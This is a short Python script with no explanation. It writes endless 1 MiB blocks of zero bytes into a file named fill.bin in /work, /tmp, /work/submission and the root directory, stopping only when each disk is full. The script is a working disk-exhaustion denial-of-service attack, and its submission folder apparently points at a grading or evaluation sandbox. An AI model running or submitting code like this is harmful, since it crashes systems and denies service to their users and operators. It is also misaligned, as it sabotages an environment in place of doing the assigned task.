import os

for folder in ("/work", "/tmp", "/work/submission", "/"):
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as f:
            while True:
                f.write(b"\0" * (1 << 20))
    except OSError:
        pass
